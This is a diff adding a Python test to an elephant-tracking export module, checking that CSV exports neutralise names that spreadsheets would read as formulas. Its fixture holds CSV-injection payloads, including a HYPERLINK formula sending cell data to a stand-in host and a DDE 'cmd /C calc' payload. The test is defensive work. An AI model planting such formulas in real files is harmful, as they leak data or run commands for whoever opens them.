@@ -260,3 +260,44 @@ def test_neither_the_visitor_kiosk_nor_a_field_technician_gets_files_of_the_fixe
             exports.files(square_walk(), "Loxodonta africana", who, "Amani_7d")
     assert [f.label for f in exports.files(square_walk(), None, Viewer("amina", "ranger"), "Amani_7d")] == [
         "CSV", "GeoJSON", "GeoPackage", "Movebank CSV"]
+
+
+FORMULA_NAMES = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Amani\")", "+254 herd", "-Amani", "@SUM(1+1)*cmd|' /C calc'!A0",
+                 "\tTembo", "\rTembo"]
+
+
+def test_a_researcher_opening_the_csv_in_a_spreadsheet_sees_names_that_look_like_formulas_as_text():
+    # OWASP "CSV Injection": Excel and LibreOffice take a cell starting with = + - @ tab or CR for a formula.
+    walk = square_walk()
+    fixes = [replace(f, name=name, device_id=f"@{f.device_id}", lon=-f.lon)
+             for f, name in zip(walk + walk[:1], FORMULA_NAMES, strict=True)]
+    fixes.append(replace(walk[1], animal_id="2", name="Amani-2 = calm", device_id="collar-002", lon=-36.5,
+                         position_id=99))
+    species = {"1": "-Loxodonta africana", "2": "Loxodonta africana"}
+    files = {f.label: f for f in exports.files(fixes, species, Viewer("amina", "researcher"), "herd")}
+
+    rows = list(csv.DictReader(io.StringIO(files["CSV"].data.decode(), newline="")))
+    assert list(rows[0]) == list(exports.COLUMNS)
+    by_name = {r["name"]: r for r in rows}
+    assert set(by_name) == {"'" + name for name in FORMULA_NAMES} | {"Amani-2 = calm"}
+    assert {r["device_id"] for r in rows} == {"'@collar-001", "collar-002"}
+    assert by_name["Amani-2 = calm"]["species"] == "Loxodonta africana"
+    assert {r["species"] for r in rows if r["animal_id"] == "1"} == {"'-Loxodonta africana"}
+    for row in rows:
+        assert not row["name"].startswith(exports.FORMULA_STARTS)
+        assert float(row["lon"]) < 0 and not row["lon"].startswith("'"), "a negative longitude stays a number"
+
+    frame = pd.read_csv(io.BytesIO(files["CSV"].data), keep_default_na=False)
+    assert list(frame.columns) == list(exports.COLUMNS)
+    assert frame["lon"].dtype == "float64" and frame["lat"].dtype == "float64"
+    assert (frame["lon"] < 0).all()
+    assert sorted(frame["name"]) == sorted(by_name)
+
+    # Movebank stores the values as given: the names, tag ids and species go there as they are.
+    movebank = pd.read_csv(io.BytesIO(files["Movebank CSV"].data), keep_default_na=False)
+    assert list(movebank.columns) == list(exports.MOVEBANK_COLUMNS)
+    assert sorted(movebank["animal-nickname"]) == sorted([*FORMULA_NAMES, "Amani-2 = calm"])
+    assert set(movebank["tag-local-identifier"]) == {"@collar-001", "collar-002"}
+    assert len(movebank) == len(frame) == len(fixes), "a name holding a carriage return keeps its row whole"
+    assert set(movebank["individual-taxon-canonical-name"]) == {"-Loxodonta africana", "Loxodonta africana"}
+    assert movebank["location-long"].dtype == "float64" and (movebank["location-long"] < 0).all()
